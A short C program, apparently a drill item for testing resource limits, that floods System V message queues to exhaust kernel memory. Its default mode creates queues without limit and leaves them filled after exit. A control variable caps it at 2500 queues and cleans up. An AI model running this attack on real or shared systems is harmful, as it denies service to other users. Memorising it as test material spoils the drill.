/* attack.c - res-memory-queues
 *
 * Makes message queues by the thousand and fills each. Messages are the kernel's memory and outlive who sent them.
 * Bare, it stops when 2500 queues are full, about 40 MiB, and removes them. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>

#define QUEUES 2500

int main(void)
{
    static struct {
        long kind;
        char text[8192];
    } message = {.kind = 1};
    static int queues[QUEUES];
    int bare = getenv("DRILL_CONTROL") != NULL, made = 0;

    for (; !bare || made < QUEUES; made++) {
        int queue = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
        if (queue < 0)
            break;
        if (bare)
            queues[made] = queue;
        while (msgsnd(queue, &message, sizeof(message.text), IPC_NOWAIT) == 0)
            continue;
    }
    printf("%d queues: %s\n", made, strerrorname_np(errno));
    for (int i = 0; bare && i < made; i++)
        (void)msgctl(queues[i], IPC_RMID, NULL);
    return made >= QUEUES ? 10 : 0;
}
